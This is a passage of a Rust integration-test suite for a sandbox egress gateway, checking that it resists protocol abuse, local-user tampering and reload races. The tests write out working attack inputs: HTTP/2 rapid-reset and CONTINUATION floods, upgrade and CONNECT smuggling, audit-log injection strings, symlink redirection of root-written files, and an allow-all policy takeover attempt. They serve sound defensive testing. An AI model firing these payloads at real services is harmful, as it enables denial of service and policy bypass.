///    injected into the first request (plain HTTP, opted in) is not added to the second.
/// 8. HTTP/2 rapid reset: 1,000 requests each reset right after its HEADERS; fewer than half
///    are forwarded (h2 ends the connection after 20 streams reset before they are accepted;
///    0 were forwarded here).
///
/// Then an ordinary request is still served.
#[test]
fn egress_gateway_protocol_abuse() {
    if !require_root("egress_gateway_protocol_abuse") {
        return;
    }
    let (rt, tmp) = scratch("abuse");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    gateway_ca(dir);
    let seen = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    let _dns = world_dns(world, &[("api.example.test", WORLD), ("evil.example.test", WORLD)]);
    let audit = dir.join("log/access.jsonl");
    let mut cmd = node.command(egress_bin().to_str().unwrap());
    cmd.env("CUBE_EGRESS_DNS_SERVERS", format!("{WORLD}:53"));
    let _gw = start_gateway(node, cmd, dir, audit.to_str().unwrap(), &[]);
    let pol = json!({"policy_id": "abuse", "rules": [
        {"id": "no-admin", "match": {"host": "api.example.test", "path": "/admin*"}, "action": {"allow": false}},
        {"id": "web", "match": {"host": "api.example.test"},
         "action": {"allow": true, "inject_plain_http": true, "inject": [{"header": "X-Api-Key", "secret": SECRET}]}},
        {"id": "evil", "match": {"host": "evil.example.test"}, "action": {"allow": true}},
        {"id": "world-ip", "match": {"host": WORLD}, "action": {"allow": true}}
    ]});
    put_policy(node, SANDBOX_IP, &pol);
    let to = format!("{WORLD}:80");

    // 1. WebSocket upgrade, then a denied request on the same connection.
    let ws = raw_http(
        &sb,
        &to,
        b"GET /ws HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n\
GET /admin/after-upgrade HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n",
    );
    assert!(ws.starts_with("HTTP/1.1 200"), "{ws}");
    assert!(ws.contains("HTTP/1.1 403"), "the request after the upgrade was not decided: {ws}");
    // 2. h2c upgrade, then an HTTP/2 request for a denied path.
    let mut h2c = b"GET /h2c HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade, HTTP2-Settings\r\n\
Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
        .to_vec();
    h2c.extend_from_slice(H2_PREFACE);
    h2c.extend(h2_frame(4, 0, 0, &[]));
    h2c.extend(h2_frame(1, 0x5, 3, &h2_get_block("api.example.test", "/admin/h2c")));
    let h2c_answer = raw_http_lossy(&sb, &to, &h2c);
    assert!(h2c_answer.starts_with("HTTP/1.1 200"), "{h2c_answer}");
    assert!(!h2c_answer.contains("101 Switching"), "{h2c_answer}");
    // 3. CONNECT, then a denied request inside the would-be tunnel.
    for target in ["api.example.test:80", &format!("{WORLD}:80")] {
        let req = format!(
            "CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n\
GET /admin/tunneled HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n"
        );
        let answer = raw_http_lossy(&sb, &to, req.as_bytes());
        eprintln!("CONNECT {target}: {:?}", answer.lines().next());
    }
    // 4. CONTINUATION flood.
    const LIMIT: usize = 64 << 20;
    let sent = continuation_flood(&sb, &to, LIMIT).unwrap_or_else(|| panic!("still reading after {LIMIT} bytes"));
    eprintln!("CONTINUATION flood: connection ended after {sent} bytes");
    assert!(sent < 4 << 20, "the gateway buffered {sent} bytes of one header block");
    // 5. One 1 MiB header.
    let mut big = b"GET /huge-header HTTP/1.1\r\nHost: api.example.test\r\nX-Big: ".to_vec();
    big.extend(std::iter::repeat_n(b'a', 1 << 20));
    big.extend_from_slice(b"\r\nConnection: close\r\n\r\n");
    let huge = raw_http_lossy(&sb, &to, &big);
    assert!(huge.is_empty() || huge.starts_with("HTTP/1.1 431") || huge.starts_with("HTTP/1.1 400"), "{huge}");
    // 6. Audit injection.
    let ua = r#"ua","event":"security_event","x":{"y":"}}"#;
    let req = format!(
        "GET /inject%0d%0a%7B%22event%22:%22forged%22%7D HTTP/1.1\r\nHost: api.example.test\r\nUser-Agent: {ua}\r\n\
Connection: close\r\n\r\n"
    );
    let inj = raw_http(&sb, &to, req.as_bytes());
    assert!(inj.starts_with("HTTP/1.1 200"), "{inj}");

    // 7. Keep-alive: an allowed request that gets the credential, then one for another
    //    (allowed) host on the same connection: decided and injected per request.
    let ka = raw_http(
        &sb,
        &to,
        b"GET /ka-1 HTTP/1.1\r\nHost: api.example.test\r\n\r\n\
GET /ka-2 HTTP/1.1\r\nHost: evil.example.test\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(ka.matches("HTTP/1.1 200").count(), 2, "{ka}");

    // 8. HTTP/2 rapid reset (CVE-2023-44487 class): 1,000 requests each cancelled at once.
    let mut rr = H2_PREFACE.to_vec();
    rr.extend(h2_frame(4, 0, 0, &[]));
    for i in 0..1000u32 {
        let id = 1 + 2 * i;
        rr.extend(h2_frame(1, 0x5, id, &h2_get_block("api.example.test", &format!("/rr-{i}"))));
        rr.extend(h2_frame(3, 0, id, &8u32.to_be_bytes())); // RST_STREAM CANCEL
    }
    // (Whether the GOAWAY reaches us depends on when the gateway's close turns into a RST over
    // our unread frames; the count of forwarded requests does not.)
    let _ = raw_http_lossy(&sb, &to, &rr);
    let forwarded = seen.lock().unwrap().iter().filter(|r| r.path.starts_with("/rr-")).count();
    eprintln!("rapid reset: {forwarded} of 1000 cancelled requests reached the world");
    assert!(forwarded < 500, "{forwarded} of 1000 cancelled requests were forwarded");

    // Still serving.
    let ok = raw_http(&sb, &to, b"GET /still-ok HTTP/1.1\r\nHost: api.example.test\r\nConnection: close\r\n\r\n");
    assert!(ok.starts_with("HTTP/1.1 200"), "{ok}");

    let s = seen.lock().unwrap().clone();
    let listing: Vec<String> = s.iter().map(|r| format!("{} {:?}", r.path, r.header("host"))).collect();
    assert!(!s.iter().any(|r| r.path.contains("admin")), "a denied path reached the world: {listing:?}");
    assert!(!s.iter().any(|r| r.path.contains("flood") || r.path.contains("huge")), "{listing:?}");
    for path in ["/ws", "/h2c"] {
        let r = s.iter().find(|r| r.path == path).unwrap_or_else(|| panic!("world never saw {path}: {listing:?}"));
        assert!(r.header("upgrade").is_empty() && r.header("http2-settings").is_empty(), "{path}: {r:?}");
    }
    let ka1 = s.iter().find(|r| r.path == "/ka-1").expect("world saw /ka-1");
    assert_eq!(ka1.header("x-api-key"), vec![SECRET], "{ka1:?}");
    let ka2 = s.iter().find(|r| r.path == "/ka-2").expect("world saw /ka-2");
    assert!(ka2.header("x-api-key").is_empty(), "the credential followed the connection to another Host: {ka2:?}");
    assert_eq!(ka2.header("host"), vec!["evil.example.test"]);
    let lines = audit_when(&audit, |lines| {
        lines.iter().any(|l| {
            l["event"] == "http_request" && l["http"]["path"].as_str().is_some_and(|p| p.starts_with("/inject"))
        })
    });
    assert!(lines.iter().all(|l| l["event"] != "forged"), "{lines:?}");
    let rec = lines
        .iter()
        .find(|l| l["event"] == "http_request" && l["http"]["path"].as_str().is_some_and(|p| p.starts_with("/inject")))
        .unwrap_or_else(|| panic!("no record of /inject: {lines:?}"));
    assert_eq!(rec["http"]["user_agent"], ua, "{rec}");
    assert_eq!(rec["http"]["path"], "/inject%0d%0a%7B%22event%22:%22forged%22%7D", "{rec}");
    drop(rt);
}

/// Attack (R43): another user on the node talks to the admin API on loopback. The old gateway
/// let uid 65534 replace a sandbox's policy (drop its deny rules), bind a name to an address of
/// its choosing in the learned table (the destination check then lets a Host with an injected
/// credential go there), or delete the policy. Now every path but `/metrics` and
/// `/admin/v1/health` answers it 403 and nothing changes; root (the agent's push) is served.
#[test]
fn egress_admin_serves_no_other_local_user() {
    if !require_root("egress_admin_serves_no_other_local_user") {
        return;
    }
    let tmp = TmpDir(std::env::temp_dir().join(format!("cube-egress-adminuser-{}", std::process::id())));
    let dir = &tmp.0;
    std::fs::create_dir_all(dir.join("ca")).unwrap();
    let topo = Topology::new();
    let node = &topo.node;
    gateway_ca(dir);
    let audit = dir.join("log/access.jsonl");
    let _gw = start_gateway(node, node.command(egress_bin().to_str().unwrap()), dir, audit.to_str().unwrap(), &[]);
    put_policy(node, SANDBOX_IP, &policy());
    let base = "http://127.0.0.1:9091";
    let before = admin_curl(node, &[&format!("{base}/admin/v1/policies/{SANDBOX_IP}")]);
    assert_eq!(before.0, 200, "{}", before.1);
    let open =
        json!({"policy_id": "pwned", "rules": [{"id": "all", "match": {}, "action": {"allow": true}}]}).to_string();
    let learned = json!({"names": {"api.example.test": ["203.0.113.66"]}}).to_string();
    let policy_url = format!("{base}/admin/v1/policies/{SANDBOX_IP}");
    let learned_url = format!("{base}/admin/v1/learned/{SANDBOX_IP}");
    let attempts: Vec<(&str, Vec<&str>)> = vec![
        ("PUT policy", vec!["-X", "PUT", "--data", &open, &policy_url]),
        (
            "PATCH rule",
            vec!["-X", "PATCH", "--data", r#"{"id":"all","match":{},"action":{"allow":true}}"#, &policy_url],
        ),
        ("PUT learned", vec!["-X", "PUT", "--data", &learned, &learned_url]),
        ("DELETE policy", vec!["-X", "DELETE", &policy_url]),
        ("GET policy", vec![&policy_url]),
        ("GET dump", vec!["http://127.0.0.1:9091/admin/v1/dump"]),
    ];
    for (what, args) in &attempts {
        let (code, body) = node.curl_as(65534, args);
        assert_eq!(code, 403, "{what} by uid 65534: {body}");
    }
    assert_eq!(admin_curl(node, &[&policy_url]), before, "uid 65534 changed the policy");
    let (code, body) = admin_curl(node, &[&learned_url]);
    assert!(!body.contains("203.0.113.66"), "uid 65534 bound a name: {code} {body}");
    for open_path in ["/metrics", "/admin/v1/health"] {
        assert_eq!(node.curl_as(65534, &[&format!("{base}{open_path}")]).0, 200, "{open_path}");
    }
}

/// Starts `cube-egress` in `ns` with `audit` and the extra `args`, expects it to exit within
/// 20 s without serving, and returns its stderr.
fn gateway_refuses(ns: &TestNetns, dir: &Path, audit: &Path, args: &[&str]) -> String {
    let out = ns
        .command(egress_bin().to_str().unwrap())
        .stdin(std::process::Stdio::null())
        .args(["--sandbox-cidr", "192.168.0.0/18", "--ca-dir", dir.join("ca").to_str().unwrap()])
        .args(["--audit-file", audit.to_str().unwrap(), "--bootstrap-url", ""])
        .args(args)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut guard = ChildGuard::from_child(out);
    let st = guard.exit_within(Duration::from_secs(20)).expect("cube-egress kept running");
    assert!(!st.success(), "cube-egress started: {st}");
    let mut err = String::new();
    std::io::Read::read_to_string(guard.child().stderr.as_mut().unwrap(), &mut err).unwrap();
    err
}

/// Attack (R44): a local user (uid 65534) who controls the audit log's directory (as one who
/// created it first, or a symlink they own on the way) can point the gateway's root appends
/// at any file on the node: the audit file as a symlink to a victim file took the records
/// (and the start-up's newline repair) before. A handoff socket directory of theirs lets them
/// swap the socket a successor hands its listeners to. Property: the gateway refuses to start
/// naming the path, the victim file is untouched, and starts once everything is root's.
#[test]
fn egress_gateway_refuses_paths_another_user_controls() {
    if !require_root("egress_gateway_refuses_paths_another_user_controls") {
        return;
    }
    const NOBODY: u32 = 65534;
    let chown = |p: &Path, uid: u32| std::os::unix::fs::lchown(p, Some(uid), Some(uid)).unwrap();
    let (_rt, tmp) = scratch("untrusted");
    let dir = &tmp.0;
    gateway_ca(dir);
    let topo = Topology::new();
    let ns = &topo.node;
    let log = dir.join("log");
    std::fs::create_dir(&log).unwrap();
    let audit = log.join("access.jsonl");

    // The audit directory of another user.
    chown(&log, NOBODY);
    let err = gateway_refuses(ns, dir, &audit, &[]);
    assert!(err.contains(&format!("audit_file directory {}", log.display())) && err.contains("uid 65534"), "{err}");
    chown(&log, 0);

    // The audit file a symlink to a victim file (no trailing newline: the start-up's repair
    // would append one): refused, the victim keeps its bytes.
    let victim = dir.join("victim.conf");
    std::fs::write(&victim, "root-only = true").unwrap();
    std::os::unix::fs::symlink(&victim, &audit).unwrap();
    let err = gateway_refuses(ns, dir, &audit, &[]);
    assert!(err.contains("symbolic links") || err.contains("os error 40"), "{err}");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "root-only = true");
    std::fs::remove_file(&audit).unwrap();

    // The handoff socket's directory of another user.
    let ho = dir.join("ho");
    std::fs::create_dir(&ho).unwrap();
    chown(&ho, NOBODY);
    let sock = ho.join("handoff.sock");
    let err = gateway_refuses(ns, dir, &audit, &["--handoff-socket", sock.to_str().unwrap()]);
    assert!(err.contains(&format!("handoff_socket directory {}", ho.display())), "{err}");
    assert!(!sock.exists(), "bound in a directory of uid 65534");
    chown(&ho, 0);

    // Everything root's: the gateway serves (admin health) with the same arguments.
    let _gw = start_gateway(
        ns,
        ns.command(egress_bin().to_str().unwrap()),
        dir,
        audit.to_str().unwrap(),
        &["--handoff-socket", sock.to_str().unwrap()],
    );
    assert!(sock.exists());
}

/// R50: `allowed_peer_uids` admits one more local user to the admin API (an agent or tool not
/// running as root); any uid not listed is still refused on every path but `/metrics` and
/// health, and changes nothing.
#[test]
fn egress_admin_serves_listed_peer_uids_only() {
    if !require_root("egress_admin_serves_listed_peer_uids_only") {
        return;
    }
    let tmp = TmpDir(std::env::temp_dir().join(format!("cube-egress-peeruids-{}", std::process::id())));
    let dir = &tmp.0;
    std::fs::create_dir_all(dir.join("ca")).unwrap();
    let topo = Topology::new();
    let node = &topo.node;
    gateway_ca(dir);
    let audit = dir.join("log/access.jsonl");
    let cmd = node.command(egress_bin().to_str().unwrap());
    let _gw = start_gateway(node, cmd, dir, audit.to_str().unwrap(), &["--allowed-peer-uid", "65534"]);
    let policy_url = format!("http://127.0.0.1:9091/admin/v1/policies/{SANDBOX_IP}");
    let listed =
        json!({"policy_id": "by-65534", "rules": [{"id": "w", "match": {"host": WORLD}, "action": {"allow": true}}]});
    let (code, body) = node.curl_as(65534, &["-X", "PUT", "--data", &listed.to_string(), &policy_url]);
    assert_eq!(code, 200, "the listed uid was refused: {body}");
    let (code, body) = node.curl_as(65534, &[&policy_url]);
    assert!(code == 200 && body.contains("by-65534"), "{code} {body}");
    let open = json!({"policy_id": "pwned", "rules": [{"id": "all", "match": {}, "action": {"allow": true}}]});
    for (what, args) in [
        ("PUT policy", vec!["-X", "PUT", "--data", &open.to_string(), &policy_url]),
        ("DELETE policy", vec!["-X", "DELETE", &policy_url]),
        ("GET policy", vec![&policy_url]),
    ] {
        let (code, body) = node.curl_as(65533, &args);
        assert_eq!(code, 403, "{what} by unlisted uid 65533: {body}");
    }
    let (_, body) = admin_curl(node, &[&policy_url]);
    assert!(body.contains("by-65534") && !body.contains("pwned"), "uid 65533 changed the policy: {body}");
    for open_path in ["/metrics", "/admin/v1/health"] {
        assert_eq!(node.curl_as(65533, &[&format!("http://127.0.0.1:9091{open_path}")]).0, 200, "{open_path}");
    }
}

/// One HTTP/1.1 GET on the open connection `s`; returns the status line and body (read by its
/// Content-Length).
fn keepalive_get(s: &mut std::net::TcpStream, host: &str, path: &str) -> (String, String) {
    use std::io::{Read, Write};
    write!(s, "GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n").expect("send");
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let (head, len) = loop {
        let n = s.read(&mut chunk).expect("read response");
        assert!(n > 0, "connection closed before a response to {path}");
        buf.extend_from_slice(&chunk[..n]);
        if let Some(at) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..at]).into_owned();
            let len = head
                .lines()
                .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap()))
                .unwrap_or(0usize);
            buf.drain(..at + 4);
            break (head, len);
        }
    };
    while buf.len() < len {
        let n = s.read(&mut chunk).expect("read body");
        assert!(n > 0, "connection closed inside the body of {path}");
        buf.extend_from_slice(&chunk[..n]);
    }
    (head.lines().next().unwrap_or_default().to_string(), String::from_utf8_lossy(&buf[..len]).into_owned())
}

/// Whether the peer closed `s` (EOF or reset) before the read timeout.
fn closed_by_peer(s: &mut std::net::TcpStream) -> bool {
    use std::io::Read;
    match s.read(&mut [0u8; 64]) {
        Ok(0) => true,
        Ok(_) => false,
        Err(e) => !matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut),
    }
}

/// R51: SIGHUP re-reads `always_denied_cidrs` from the gateway's `--config` file. A sandbox
/// holds a keep-alive connection to 100.100.100.200 (a test host, allowed by its policy and
/// not listed) and another to a world address; the reload that lists the first closes that
/// connection (not the other) and refuses new requests to it (403); a bad file keeps the list
/// in force; the reload that unlists it serves it again. Another changed key is only logged.
#[test]
fn egress_gateway_sighup_reloads_the_always_denied_list() {
    if !require_root("egress_gateway_sighup_reloads_the_always_denied_list") {
        return;
    }
    const METADATA: &str = "100.100.100.200";
    let (rt, tmp) = scratch("always-denied-hup");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    topo.add_world_address([100, 100, 100, 200], 32);
    let seen = world_server(&rt, world, format!("{METADATA}:80").parse().unwrap(), None);
    let _world = world_server(&rt, world, format!("{WORLD}:80").parse().unwrap(), None);
    gateway_ca(dir);
    let audit = dir.join("log/access.jsonl");
    let cfg = dir.join("egress.toml");
    let unlisted = "always_denied_cidrs = []\nmint_burst = 20\n";
    std::fs::write(&cfg, unlisted).unwrap();
    let log_path = dir.join("gateway.log");
    let mut cmd = node.command(egress_bin().to_str().unwrap());
    cmd.stderr(std::fs::File::create(&log_path).unwrap());
    let gw = start_gateway(node, cmd, dir, audit.to_str().unwrap(), &["--config", cfg.to_str().unwrap()]);
    let gw_log = || std::fs::read_to_string(&log_path).unwrap_or_default();
    let hup =
        || nix::sys::signal::kill(nix::unistd::Pid::from_raw(gw._child.id() as i32), nix::sys::signal::SIGHUP).unwrap();
    let wait_log = |what: &str, before: usize| {
        wait_for(what, Duration::from_secs(20), || gw_log().matches(what).count() > before);
    };
    let pol = json!({"policy_id": "allow-all", "rules": [{"id": "all", "match": {}, "action": {"allow": true}}]});
    put_policy(node, SANDBOX_IP, &pol);
    let connect = |to: &str| {
        let to: SocketAddr = format!("{to}:80").parse().unwrap();
        let s = sb.run(move || std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5))).expect("connect");
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s
    };
    let (mut held, mut control) = (connect(METADATA), connect(WORLD));
    let (status, body) = keepalive_get(&mut held, METADATA, "/before");
    assert!(status.contains(" 200 "), "unlisted, the address is served: {status} {body}");
    assert!(keepalive_get(&mut control, WORLD, "/c1").0.contains(" 200 "));

    // Listed by a reload (plus a key read only at start).
    std::fs::write(&cfg, "always_denied_cidrs = [\"100.100.100.200/32\"]\nmint_burst = 21\n").unwrap();
    hup();
    wait_log("SIGHUP: always-denied list reloaded", 0);
    assert!(closed_by_peer(&mut held), "the connection to the newly listed address stayed open");
    let (status, _) = keepalive_get(&mut control, WORLD, "/c2");
    assert!(status.contains(" 200 "), "the reload closed a connection to an unlisted address: {status}");
    let (code, body, o) = curl(&sb, &[&format!("http://{METADATA}/after")]);
    assert_eq!(code, 403, "{}", text(&o));
    assert!(body.contains("destination_always_denied"), "{body}");
    let log = gw_log();
    assert!(log.contains("needs a restart") && log.contains("mint_burst"), "{log}");
    assert!(log.contains("destination now always denied"), "{log}");

    // A bad file: logged, the list stays.
    std::fs::write(&cfg, "always_denied_cidrs = [\"100.100.100.200/10\"]\n").unwrap();
    hup();
    wait_log("SIGHUP: configuration invalid", 0);
    let (code, _, o) = curl(&sb, &[&format!("http://{METADATA}/bad-file")]);
    assert_eq!(code, 403, "a bad file opened the listed address: {}", text(&o));

    // Unlisted again: served.
    std::fs::write(&cfg, unlisted).unwrap();
    hup();
    wait_log("SIGHUP: always-denied list reloaded", 1);
    let (code, _, o) = curl(&sb, &[&format!("http://{METADATA}/reopened")]);
    assert_eq!(code, 200, "the reload that unlisted the address did not reopen it: {}", text(&o));
    let paths: Vec<String> = seen.lock().unwrap().iter().map(|r| r.path.clone()).collect();
    assert_eq!(paths, ["/before", "/reopened"], "the gateway dialled the address while it was listed");
    let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
    assert_eq!(metric_sum(&metrics, "cube_egress_connections_closed_always_denied_total"), 1.0, "{metrics}");
    assert!(metrics.contains("cube_egress_config_reloads_total{result=\"applied\"} 2"), "{metrics}");
    assert!(metrics.contains("cube_egress_config_reloads_total{result=\"invalid\"} 1"), "{metrics}");
    drop(gw);
    drop(rt);
}

/// An upstream that accepts TCP at once and holds each TLS handshake until released: a
/// gateway dial toward it stays in progress as long as the test wants.
struct HeldUpstream {
    accepted: Arc<std::sync::atomic::AtomicUsize>,
    finished: Arc<std::sync::atomic::AtomicUsize>,
    release: tokio::sync::watch::Sender<bool>,
    seen: SeenLog,
}

impl HeldUpstream {
    fn start(
        rt: &tokio::runtime::Runtime,
        ns: &TestNetns,
        addr: SocketAddr,
        tls: rustls::ServerConfig,
    ) -> HeldUpstream {
        let l = ns.run(move || std::net::TcpListener::bind(addr)).unwrap();
        l.set_nonblocking(true).unwrap();
        let (release, rx) = tokio::sync::watch::channel(false);
        let held = HeldUpstream { accepted: Arc::default(), finished: Arc::default(), release, seen: Arc::default() };
        let (accepted, finished, seen) = (held.accepted.clone(), held.finished.clone(), held.seen.clone());
        let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(tls));
        rt.spawn(async move {
            let l = tokio::net::TcpListener::from_std(l).unwrap();
            loop {
                let Ok((stream, _)) = l.accept().await else { continue };
                accepted.fetch_add(1, Ordering::SeqCst);
                let (mut rx, acceptor, seen, finished) = (rx.clone(), acceptor.clone(), seen.clone(), finished.clone());
                tokio::spawn(async move {
                    let _ = rx.wait_for(|r| *r).await;
                    if let Ok(t) = acceptor.accept(stream).await {
                        let svc = hyper::service::service_fn(move |r| world_handler(seen.clone(), r));
                        let b = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new());
                        let _ = b.serve_connection(TokioIo::new(t), svc).await;
                    }
                    finished.fetch_add(1, Ordering::SeqCst);
                });
            }
        });
        held
    }
}

/// R51 attacked where a reload meets work in progress (E27). The sandbox's policy allows
/// 100.100.100.200 (unlisted); three connections to it are in progress when a SIGHUP lists it:
/// one in its TLS handshake with the gateway (ClientHello answered, client Finished not yet
/// sent), and two whose request the gateway has checked and is dialling upstream for (the
/// upstream accepted TCP and holds its TLS handshake), one over HTTP/1.1 and one over HTTP/2
/// (whose requests run in tasks of their own). After the reload the upstream completes its
/// handshakes and the first connection sends its Finished and a request. No request reaches
/// the newly listed address; all three connections are closed by the reload (counted).
#[test]
fn egress_gateway_sighup_cuts_handshakes_and_dials_in_progress() {
    if !require_root("egress_gateway_sighup_cuts_handshakes_and_dials_in_progress") {
        return;
    }
    use std::io::{Read, Write};
    const METADATA: &str = "100.100.100.200";
    const NAME: &str = "meta.example.test";
    let (rt, tmp) = scratch("always-denied-mid");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    topo.add_world_address([100, 100, 100, 200], 32);
    let gw_ca = gateway_ca(dir);
    let world_ca = tls::make_ca("world test CA");
    std::fs::write(dir.join("world-ca.pem"), &world_ca.pem).unwrap();
    let held = HeldUpstream::start(
        &rt,
        world,
        format!("{METADATA}:443").parse().unwrap(),
        tls::server_config(&world_ca, NAME),
    );
    let audit = dir.join("log/access.jsonl");
    let cfg = dir.join("egress.toml");
    std::fs::write(&cfg, "always_denied_cidrs = []\n").unwrap();
    let log_path = dir.join("gateway.log");
    let mut cmd = node.command(egress_bin().to_str().unwrap());
    cmd.stderr(std::fs::File::create(&log_path).unwrap());
    let world_ca_path = dir.join("world-ca.pem");
    let gw = start_gateway(
        node,
        cmd,
        dir,
        audit.to_str().unwrap(),
        &["--config", cfg.to_str().unwrap(), "--upstream-extra-ca", world_ca_path.to_str().unwrap()],
    );
    let gw_log = || std::fs::read_to_string(&log_path).unwrap_or_default();
    let pol = json!({"policy_id": "allow-all", "rules": [{"id": "all", "match": {}, "action": {"allow": true}}]});
    put_policy(node, SANDBOX_IP, &pol);

    // Two requests the gateway checked (allowed) and is dialling upstream for.
    let ca_file = dir.join("ca/cube-root-ca.crt");
    let resolve = format!("{NAME}:443:{METADATA}");
    let spawn_curl = |version: &str, path: &str| {
        sb.command("curl")
            .args(["-sS", "--max-time", "40", "-o", "/dev/null", "-w", "%{http_code}", version, "--cacert"])
            .args([ca_file.to_str().unwrap(), "--resolve", &resolve, &format!("https://{NAME}{path}")])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("spawn curl")
    };
    let h1 = ChildGuard::from_child(spawn_curl("--http1.1", "/mid-dial/h1"));
    let h2 = ChildGuard::from_child(spawn_curl("--http2", "/mid-dial/h2"));
    wait_for("both upstream dials in progress", Duration::from_secs(20), || held.accepted.load(Ordering::SeqCst) >= 2);

    // A connection in its TLS handshake with the gateway: the server's flight is processed,
    // the client's Finished is not sent yet.
    let to: SocketAddr = format!("{METADATA}:443").parse().unwrap();
    let mut tcp = sb.run(move || std::net::TcpStream::connect_timeout(&to, Duration::from_secs(5))).expect("connect");
    tcp.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    let server_name = rustls::pki_types::ServerName::try_from(NAME).unwrap();
    let mut client = rustls::ClientConnection::new(tls::client_config(&gw_ca.pem), server_name).unwrap();
    while client.wants_write() {
        client.write_tls(&mut tcp).expect("send ClientHello");
    }
    while client.is_handshaking() {
        assert!(client.read_tls(&mut tcp).expect("read the gateway's flight") > 0, "gateway closed the handshake");
        client.process_new_packets().expect("gateway flight");
    }
    assert!(client.wants_write(), "the client's Finished is pending");

    // The reload lists the address.
    std::fs::write(&cfg, format!("always_denied_cidrs = [\"{METADATA}/32\"]\n")).unwrap();
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(gw._child.id() as i32), nix::sys::signal::SIGHUP).unwrap();
    wait_for("reload", Duration::from_secs(20), || gw_log().contains("SIGHUP: always-denied list reloaded"));

    // The handshake connection finishes and asks: it must get nothing (closed by the reload).
    client.writer().write_all(format!("GET /mid-handshake HTTP/1.1\r\nHost: {NAME}\r\n\r\n").as_bytes()).unwrap();
    while client.wants_write() {
        if client.write_tls(&mut tcp).is_err() {
            break;
        }
    }
    let mut answer = Vec::new();
    loop {
        match client.read_tls(&mut tcp) {
            Ok(0) | Err(_) => break,
            Ok(_) => {
                if client.process_new_packets().is_err() {
                    break;
                }
                let _ = client.reader().read_to_end(&mut answer);
            }
        }
    }
    assert!(
        answer.is_empty(),
        "the connection in its handshake stayed open through the reload: {}",
        String::from_utf8_lossy(&answer)
    );

    // The upstream now completes the gateway's handshakes: no request may follow them.
    held.release.send_replace(true);
    let codes: Vec<String> = [h1, h2]
        .into_iter()
        .map(|mut c| {
            let mut out = String::new();
            c.child().stdout.take().unwrap().read_to_string(&mut out).unwrap();
            let _ = c.child().wait();
            out
        })
        .collect();
    wait_for("the upstream's connections end", Duration::from_secs(30), || {
        held.finished.load(Ordering::SeqCst) >= held.accepted.load(Ordering::SeqCst)
    });
    let paths: Vec<String> = held.seen.lock().unwrap().iter().map(|r| r.path.clone()).collect();
    assert!(paths.is_empty(), "requests reached the newly listed address: {paths:?} (curl: {codes:?})");
    assert!(codes.iter().all(|c| c != "200"), "answered after the reload: {codes:?}");
    let (_, metrics) = admin_curl(node, &["http://127.0.0.1:9091/metrics"]);
    assert_eq!(
        metric_sum(&metrics, "cube_egress_connections_closed_always_denied_total"),
        3.0,
        "every connection to the newly listed address is closed by the reload: {metrics}"
    );
    drop(gw);
    drop(rt);
}

/// Attack (R90): one sandbox makes TLS handshakes with the gateway as fast as it can (64
/// parallel loops, `CUBENET_HSFLOOD_LOOPS`: connect, full TLS 1.3 handshake without
/// resumption, close; the same with one request; a canned ClientHello reset once the gateway
/// has answered; garbage)
/// while another sends keep-alive HTTPS requests. The handshakes are the gateway's costliest
/// work (key exchange and a signature each) and nothing bounded their rate: before R90 every
/// flood connection was a task as ready as the victim's, so the victim waited behind the whole
/// flood (1–3 % of its requests alone). Now each sandbox has at most `handshakes_per_sandbox`
/// (1) handshakes in progress; its other connections wait for their turn without being
/// served, never another sandbox's. The figures (requests, handshakes, latency) are printed
/// beside the victim alone just before each flood; the assertions compare counts only (no timing):
/// under a handshake flood the victim completes at least a fifth as many requests as the
/// flood gets handshakes (or requests), and at least a fifth of its requests alone (a tenth
/// under the request flood, whose upstream handshakes R90 does not admit, and under the
/// garbage flood, whose connections over the sandbox's rate R102 resets at accept).
#[test]
fn egress_gateway_handshake_flood_starves_no_other_sandbox() {
    use cubenet_tests::hsflood::{FloodKind, flood, victim};
    if !require_root("egress_gateway_handshake_flood_starves_no_other_sandbox") {
        return;
    }
    let loops: usize = std::env::var("CUBENET_HSFLOOD_LOOPS").ok().and_then(|v| v.parse().ok()).unwrap_or(64);
    let window = Duration::from_secs(3);
    let (rt, tmp) = scratch_alone("hsflood");
    let dir = &tmp.0;
    let topo = Topology::new();
    let (node, world) = (&topo.node, &topo.world);
    let sb = sandbox_net(&topo);
    let gw_ca = gateway_ca(dir);
    let world_ca = tls::make_ca("world test CA");
    std::fs::write(dir.join("world-ca.pem"), &world_ca.pem).unwrap();
    let seen = world_server(
        &rt,
        world,
        format!("{WORLD}:443").parse().unwrap(),
        Some(tls::server_config(&world_ca, "api.example.test")),
    );
    let world_ca_file = dir.join("world-ca.pem");
    let extra = ["--upstream-extra-ca", world_ca_file.to_str().unwrap()];
    let _gw = start_gateway(
        node,
        node.command(egress_bin().to_str().unwrap()),
